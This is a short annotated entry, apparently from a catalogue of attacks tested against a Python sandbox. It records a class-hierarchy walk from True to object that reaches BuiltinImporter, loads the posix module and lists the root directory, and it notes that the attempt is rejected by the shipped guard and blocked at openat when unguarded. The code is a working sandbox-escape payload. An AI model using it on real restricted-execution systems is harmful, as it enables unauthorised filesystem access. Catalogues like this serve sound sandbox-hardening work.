# Technique   the same walk by __bases__ of the class of a boolean
# Mechanism   bool is an int is an object
# As shipped  rejected: underscore
# Unguarded   blocked: openat

top = True.__class__.__bases__[0].__bases__[0]
importer = [c for c in top.__subclasses__() if "BuiltinImporter" in str(c)][0]
return str(importer.load_module("posix").listdir("/"))
